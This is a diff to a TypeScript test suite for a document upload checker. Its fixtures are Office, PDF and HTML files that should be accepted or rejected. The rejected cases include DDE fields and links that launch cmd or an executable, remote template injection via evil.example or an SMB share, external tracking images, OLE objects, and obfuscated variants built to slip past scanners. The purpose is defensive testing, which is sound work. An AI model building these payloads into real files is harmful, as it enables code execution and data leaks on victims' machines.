@@ -6,6 +6,7 @@ import {
   aPackage,
   aPdf,
   aWordStream,
+  aWordTable,
   aWorkbookStream,
   aZip,
 } from '#testing/office-builders.ts';
@@ -21,6 +22,20 @@ const HTML = Buffer.from('<!doctype html><script>alert(1)</script>');
 const macros = (isTrue: number) =>
   Buffer.from([0x1f, 0, 0xff, 3, 0x14, 0, 0, 0, 2, 0, 0, 4, 12, 0, 0, 0, 1, 0, 0, 0, isTrue, 0, 0, 0, 2, 0, 0, 0]);
 
+/** A document whose `path` says `xml`, as a part of it beside the main one. */
+const withPart = (
+  xml: string | Buffer,
+  { kind = 'docx', path = 'word/footer1.xml' }: { kind?: 'docx' | 'xlsx' | 'pptx'; path?: string } = {},
+) => aPackage(kind, { more: [{ name: path, bytes: Buffer.from(xml) }] });
+const withRelationship = (type: string, rest: string) =>
+  withPart(
+    `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" ${rest}/></Relationships>`,
+    { path: 'word/_rels/settings.xml.rels' },
+  );
+const field = (...instructions: string[]) =>
+  `<w:p>${['begin', ...instructions, 'end'].map((text) => (/^(begin|separate|end)$/.test(text) ? `<w:fldChar w:fldCharType="${text}"/>` : `<w:r><w:instrText>${text}</w:instrText></w:r>`)).join('')}</w:p>`;
+const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
+
 describe('a file is what its content says', () => {
   test.each([
     ['pdf', aPdf()],
@@ -32,6 +47,26 @@ describe('a file is what its content says', () => {
     ['xls', aCompound({ Workbook: aWorkbookStream(), Book: aWorkbookStream() })],
     ['ppt', presentation()],
     ['ppt', presentation(macros(0))],
+    // Hyperlinks wait for a click; a template on the author's own disk is nowhere else; other fields load nothing.
+    ['docx', withRelationship('hyperlink', 'Target="https://example.com" TargetMode="External"')],
+    ['docx', withRelationship('image', 'Target="media/image1.png"')],
+    ['docx', withRelationship('attachedTemplate', 'Target="file:///C:\\Users\\a\\b.dotx" TargetMode="External"')],
+    ['docx', withPart(field(' HYPERLINK "https://example.com/?q=DDE" ', 'separate') + '<w:t>DDEAUTO, LINK</w:t>')],
+    ['docx', withPart(utf16(`<?xml version="1.0" encoding="utf-16"?>${field('PAGE')}`))],
+    ['docx', withPart(Buffer.from([0x89, 0x50, 0x3c, 0x21, 0x44, 0x4f]), { path: 'word/media/image1.png' })],
+    ['doc', aCompound({ WordDocument: aWordStream(0, '\u0013 HYPERLINK x\u0015'), '0Table': aWordTable('C:\\a.dot') })],
+    [
+      'xls',
+      aCompound({
+        Workbook: aWorkbookStream({
+          links: [
+            [2, 0, 1, 4],
+            [1, 0, 1, 0x3a],
+          ],
+        }),
+      }),
+    ],
+    ['xls', aCompound({ Book: aWorkbookStream({ links: [[6, 3, 83, 104, 101, 101, 116]] }, true) })],
   ])('%s', async (type, bytes) => expect(await codeOf(bytes)).toBe(type));
 });
 
@@ -97,6 +132,101 @@ describe('is not accepted', () => {
       aPdf({ objects: '4 0 obj <</S /JavaScript /JS (app.alert(1))>> endobj\n' }),
     ],
 
+    [
+      'a document whose template is elsewhere',
+      'file_has_objects',
+      withRelationship('attachedTemplate', 'Target="https://evil.example/t.dotm" TargetMode="External"'),
+    ],
+    [
+      'a document whose template is on a share',
+      'file_has_objects',
+      withRelationship('attachedTemplate', 'Target="file:///\\\\evil\\t.dotm" TargetMode="External"'),
+    ],
+    [
+      'a document with a picture from elsewhere',
+      'file_has_objects',
+      withRelationship('image', 'Target="https://evil.example/seen.png" TargetMode="External"'),
+    ],
+    [
+      'a document with an object',
+      'file_has_objects',
+      withRelationship('oleObject', 'Target="embeddings/oleObject1.bin"'),
+    ],
+    ['a document with a text in another format', 'file_has_objects', withRelationship('aFChunk', 'Target="a.rtf"')],
+    ['a document with a package as an object', 'file_has_objects', withPart('<o:OLEObject r:id="rId1"/>')],
+    [
+      'a slide with an object',
+      'file_has_objects',
+      withPart('<p:oleObj r:id="a"/>', { kind: 'pptx', path: 'ppt/slide1' }),
+    ],
+    [
+      'a workbook with a link that starts a program',
+      'file_has_objects',
+      withPart('<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>', {
+        kind: 'xlsx',
+        path: 'xl/externalLinks/externalLink1.xml',
+      }),
+    ],
+    [
+      'a document with a field that starts a program',
+      'file_has_objects',
+      withPart(field('DDEAUTO c:\\x.exe', 'separate')),
+    ],
+    ['the same in pieces', 'file_has_objects', withPart(field(' D', 'DE', 'AUT', 'O x '))],
+    ['the same by numbers', 'file_has_objects', withPart(field('&#68;&#x44;E x'))],
+    ['the same around another field', 'file_has_objects', withPart(field('DDE ', 'begin', 'QUOTE 67', 'end'))],
+    ['the same in one element', 'file_has_objects', withPart('<w:fldSimple w:instr=\' dde "x>" "y" \'/>')],
+    ['the same in two bytes a letter', 'file_has_objects', withPart(utf16(field('DDE x')))],
+    ['the same without a mark', 'file_has_objects', withPart(Buffer.from(field('DDE x'), 'utf16le'))],
+    [
+      'the same behind very many spaces',
+      'file_has_objects',
+      aPackage('docx', { more: [{ name: 'a.xml', bytes: Buffer.from(' '.repeat(300_000) + field('DDE x')) }] }),
+    ],
+    [
+      'an older document with a field that starts a program',
+      'file_has_objects',
+      aCompound({ WordDocument: aWordStream(0, '\u0013 DDEAUTO c:\\x.exe\u0015') }),
+    ],
+    [
+      'the same in two bytes a letter, older',
+      'file_has_objects',
+      aCompound({ WordDocument: aWordStream(0, '\u0013\0 \0d\0d\0e\0 \0') }),
+    ],
+    [
+      'an older document whose template is elsewhere',
+      'file_has_objects',
+      aCompound({ WordDocument: aWordStream(0x0200), '1Table': aWordTable('\\\\evil\\t.dot') }),
+    ],
+    [
+      'an older document with an object',
+      'file_has_objects',
+      aCompound({ WordDocument: aWordStream() }, ['\u0003ObjInfo']),
+    ],
+    [
+      'an older workbook with an object',
+      'file_has_objects',
+      aCompound({ Workbook: aWorkbookStream() }, ['MBD00A1B2C3']),
+    ],
+    [
+      'an older workbook with a link that starts a program',
+      'file_has_objects',
+      aCompound({ Workbook: aWorkbookStream({ links: [[0, 0, 5, 0, 0, 99, 109, 100, 3, 67]] }) }),
+    ],
+    [
+      'the same of 1995',
+      'file_has_objects',
+      aCompound({ Book: aWorkbookStream({ links: [[5, 99, 109, 100, 3, 67]] }, true) }),
+    ],
+    [
+      'an older presentation with an object',
+      'file_has_objects',
+      presentation(Buffer.from([0, 0, 0x0f, 0, 0xcc, 0x0f, 8, 0, 0, 0])),
+    ],
+
+    ['a document with words of its own', 'file_unreadable', withPart('<!DOCTYPE a [<!ENTITY d "DDE">]><a>&d;</a>')],
+    ['a document in another alphabet', 'file_unreadable', withPart('<?xml version="1.0" encoding="utf-7"?><a/>')],
+    ['a document without an end', 'file_unreadable', withPart('<a>'.repeat(1_001))],
     ['the beginning of a PDF', 'file_unreadable', aPdf().subarray(0, 100)],
     ['a PDF whose end leads nowhere', 'file_unreadable', Buffer.from('%PDF-1.7\nx\nstartxref\n2\n%%EOF')],
     ['a web page behind a PDF', 'file_unreadable', aPdf({ behind: `${'x'.repeat(2_000)}${HTML.toString()}` })],
